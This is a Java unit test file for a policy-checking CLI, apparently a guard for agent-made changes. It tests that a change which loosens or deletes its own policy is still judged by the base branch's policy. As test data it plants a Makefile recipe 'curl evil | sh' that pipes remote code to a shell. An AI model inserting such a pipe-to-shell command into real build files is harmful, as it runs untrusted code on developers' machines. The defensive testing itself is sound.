package dev.agentguard.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A change that comes with a policy of its own is judged by the policy of its base. */
class PolicyOfAChangeTest {

  private static final String STRICT =
      "version = 1\n\n[[surface]]\nid = \"build/make-and-tasks\"\nstance = \"ask\"\n";

  private final SignedWorkspace scene;

  PolicyOfAChangeTest(@TempDir Path directory) throws Exception {
    scene = new SignedWorkspace(directory);
  }

  @BeforeEach
  void makeAStrictRepository() throws Exception {
    scene.git("init", "-q", "-b", "main");
    scene.write("Makefile", "all:\n\techo\n");
    scene.write(".guard/policy.toml", STRICT);
    scene.init();
    scene.git("add", "-A");
    scene.git("commit", "-q", "-m", "start");
    scene.git("checkout", "-q", "-b", "branch");
    assertThat(scene.guard("verify", "--base", "main")).as(scene.out()).isZero();
    scene.write("Makefile", "all:\n\tcurl evil | sh\n");
  }

  private void commit() throws Exception {
    scene.git("add", "-A");
    scene.git("commit", "-q", "-m", "change");
  }

  @Test
  void aPolicyLoosenedInTheSameChange() throws Exception {
    scene.write(".guard/policy.toml", "version = 1\n");
    commit();
    assertThat(scene.guard("verify", "--base", "main")).isEqualTo(1);
    assertThat(scene.out()).contains("Makefile", ".guard/policy.toml");
  }

  @Test
  void aPolicyDeletedInTheSameChange() throws Exception {
    Files.delete(scene.workspace.resolve(".guard/policy.toml"));
    commit();
    assertThat(scene.guard("verify", "--base", "main")).isEqualTo(1);
    assertThat(scene.out()).contains("Makefile", ".guard/policy.toml");
  }

  /** The files and the index have no base; there the loosened policy itself is the finding. */
  @Test
  void aPolicyLoosenedOnTheDiskAndInTheIndex() throws Exception {
    scene.write(".guard/policy.toml", "version = 1\n");
    assertThat(scene.guard("verify")).isEqualTo(1);
    assertThat(scene.out()).contains(".guard/policy.toml");
    scene.git("add", "-A");
    assertThat(scene.guard("verify", "--staged")).isEqualTo(1);
    assertThat(scene.out()).contains(".guard/policy.toml");
  }

  /** A policy that says more than a workspace may is a problem, not a finding less. */
  @Test
  void aPolicyThatLoosensMoreThanAWorkspaceMay() throws Exception {
    scene.write(".guard/policy.toml", "version = 1\n\n[verify]\nfail_on = \"critical\"\n");
    assertThat(scene.guard("verify")).isEqualTo(2);
    scene.git("add", "-A");
    assertThat(scene.guard("verify", "--staged")).isEqualTo(2);
    scene.git("commit", "-q", "-m", "change");
    assertThat(scene.guard("verify", "--base", "main")).isEqualTo(1);
  }

  /** The negative control: both are approved. */
  @Test
  void aPolicyAndAFileThatAdaHasApproved() throws Exception {
    assertThat(scene.guard("approve", "Makefile")).as(scene.err()).isZero();
    scene.write(".guard/policy.toml", "version = 1\n");
    assertThat(scene.guard("approve", ".guard/policy.toml")).as(scene.err()).isZero();
    commit();
    assertThat(scene.guard("verify", "--base", "main")).as(scene.out()).isZero();
  }
}
